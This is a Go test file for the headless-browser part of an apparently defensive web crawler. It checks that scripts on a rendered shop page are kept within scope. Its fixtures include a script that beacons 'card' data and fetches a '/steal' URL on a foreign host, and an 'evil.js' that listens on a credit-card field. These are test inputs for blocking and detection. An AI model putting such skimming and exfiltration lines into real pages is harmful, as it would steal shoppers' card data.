package browser

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"miseban/internal/crawl/crawltest"
	"miseban/internal/page"
	"miseban/internal/wire"
)

// start starts a browser for a client whose scope is the given origins.
func start(t testing.TB, client *wire.Client) *Browser {
	t.Helper()
	b, err := Start(t.Context(), Options{Client: client, Version: "test"})
	if errors.Is(err, ErrNone) {
		t.Skip("no Chromium on this machine: make test installs it")
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.Close() })
	return b
}

func client(t testing.TB, hosts ...string) *wire.Client {
	t.Helper()
	c, err := wire.NewClient(wire.Options{Scope: &wire.Scope{Hosts: hosts, Level: wire.Safe, Rate: wire.Rate{Unlimited: true}}, Version: "test", Run: "test"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}

// TestCoverage runs the crawl-coverage suite with the browser.
func TestCoverage(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser for every case")
	}
	s := crawltest.Run(t, "../crawl/testdata/coverage", func(t testing.TB, origins []string) crawltest.Render {
		free := make(chan *Browser, 2)
		for range cap(free) {
			free <- start(t, client(t, origins...))
		}
		return func(ctx context.Context, p *page.Page) (*page.Rendered, error) {
			b := <-free
			defer func() { free <- b }()
			return b.Render(ctx, p)
		}
	})
	if s.Share() < 0.9 || s.Writes > 0 {
		t.Errorf("found %d of %d (%.0f %%), %d writes; want 90 %% and none. Missed: %v", s.Found, s.Cases, 100*s.Share(), s.Writes, s.Missed)
	}
}

// shopServer notes every request it gets.
type shopServer struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func serve(t *testing.T, body map[string]string) *shopServer {
	s := &shopServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.seen = append(s.seen, r.Method+" "+r.URL.RequestURI())
		s.mu.Unlock()
		b, ok := body[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, b)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *shopServer) asked(part string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.ContainsFunc(s.seen, func(x string) bool { return strings.Contains(x, part) })
}

func render(t *testing.T, b *Browser, raw string) *page.Rendered {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	r, err := b.Render(t.Context(), &page.Page{URL: u, Ex: &wire.Exchange{}})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestGuard: nothing a page fires reaches a host outside the scope or changes
// the shop, and what was kept back is on record.
func TestGuard(t *testing.T) {
	foreign := serve(t, map[string]string{"/lib.js": "", "/beacon": "", "/frame": "x"})
	foreign.URL = strings.Replace(foreign.URL, "127.0.0.1", "127.0.0.9", 1)
	elsewhere := "http://127.0.0.1:" + foreign.URL[strings.LastIndex(foreign.URL, ":")+1:]
	shop := serve(t, map[string]string{"/": fmt.Sprintf(`<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>店</title></head><body>
<form action="/order" method="post" id="f"><input name="q" value="1"><button>注文する</button></form>
<button type="button" id="del">削除</button><div id="more" role="button">もっと見る</div>
<script>
document.cookie = "seen=1; SameSite=Lax"; localStorage.setItem("k", "v");
navigator.sendBeacon(%[1]q + "/beacon", "card");
fetch(%[1]q + "/steal?c=1").catch(() => {});
fetch("/api/order", {method: "POST", body: "id=1"}).catch(() => {});
fetch("/cart/add?id=1").catch(() => {});
fetch("/api/items?page=1").catch(() => {});
new Image().src = "/pixel.gif";
try { new WebSocket("ws://" + location.host + "/socket") } catch (e) {}
document.getElementById("del").addEventListener("click", () => fetch("/delete?id=1"));
document.getElementById("more").addEventListener("click", () => { location.href = "/list?p=" + (1 + 1) });
document.getElementById("f").addEventListener("submit", () => {});
setTimeout(() => document.getElementById("f").submit(), 30);
alert("hello");
</script></body></html>`, elsewhere)})
	b := start(t, client(t, shop.URL))
	r := render(t, b, shop.URL+"/")
	for _, never := range []string{"POST", "/cart/add", "/delete", "/socket", "/order"} {
		if shop.asked(never) {
			t.Errorf("the shop was asked for %s: %v", never, shop.seen)
		}
	}
	if foreign.asked("") {
		t.Errorf("a foreign host was asked: %v", foreign.seen)
	}
	if !shop.asked("GET /api/items?page=1") {
		t.Errorf("a reading fetch was held back: %v, blocked %+v", shop.seen, r.Blocked)
	}
	blocked := func(part string) bool {
		return slices.ContainsFunc(r.Blocked, func(q page.Request) bool { return strings.Contains(q.URL, part) && q.Blocked != "" })
	}
	for _, want := range []string{"/beacon", "/steal", "/api/order", "/cart/add", "/socket"} {
		if !blocked(want) {
			t.Errorf("%s is not on record as blocked: %+v", want, r.Blocked)
		}
	}
	if !slices.ContainsFunc(r.Routes, func(s string) bool { return strings.HasSuffix(s, "/list?p=2") }) {
		t.Errorf("the address behind the click was not noted: %v", r.Routes)
	}
	if !slices.ContainsFunc(r.Cookies, func(c page.Cookie) bool { return c.Name == "seen" && c.SameSite == "Lax" }) {
		t.Errorf("cookies %+v", r.Cookies)
	}
	if len(r.Storage) != 1 || r.Storage[0].Key != "k" {
		t.Errorf("storage %+v", r.Storage)
	}
}

// TestListeners: who listens on card and password fields is on record.
func TestListeners(t *testing.T) {
	shop := serve(t, map[string]string{
		"/card": `<!DOCTYPE html><title>カード</title><form><input name="card_number" autocomplete="cc-number"><input name="note"></form><script src="/evil.js"></script>`,
		"/evil.js": `document.querySelector("[name=card_number]").addEventListener("change", e => {});
document.querySelector("[name=note]").addEventListener("change", e => {});`,
	})
	b := start(t, client(t, shop.URL))
	r := render(t, b, shop.URL+"/card")
	if len(r.Listeners) != 1 || r.Listeners[0].Field != "card_number" || !strings.HasSuffix(r.Listeners[0].Script, "/evil.js") {
		t.Errorf("listeners %+v", r.Listeners)
	}
}

// TestReplay: a page that was rendered once is not asked for again.
func TestReplay(t *testing.T) {
	shop := serve(t, map[string]string{"/": `<title>店</title><script>document.write("<a href=/x>x</a>")</script>`})
	journal := wire.NewMemory()
	make := func() *wire.Client {
		c, err := wire.NewClient(wire.Options{Scope: &wire.Scope{Hosts: []string{shop.URL}, Level: wire.Safe, Rate: wire.Rate{Unlimited: true}}, Journal: journal, Version: "test"})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(c.Close)
		return c
	}
	first := render(t, start(t, make()), shop.URL+"/")
	n := len(shop.seen)
	second := render(t, start(t, make()), shop.URL+"/")
	if len(shop.seen) != n {
		t.Errorf("asked again: %v", shop.seen[n:])
	}
	if !strings.Contains(first.HTML, `href="/x"`) || second.HTML != first.HTML {
		t.Errorf("first %q, second %q", first.HTML, second.HTML)
	}
}

func TestRootElsewhere(t *testing.T) {
	t.Parallel()
	for host, want := range map[string]bool{
		"http://127.0.0.1:8080": true, "https://shop.test": true, "http://localhost": true, "https://shop.example": false, "https://127.evil.example": false,
	} {
		if got := local(&wire.Scope{Hosts: []string{host}}); got != want {
			t.Errorf("local(%s) = %v", host, got)
		}
	}
}
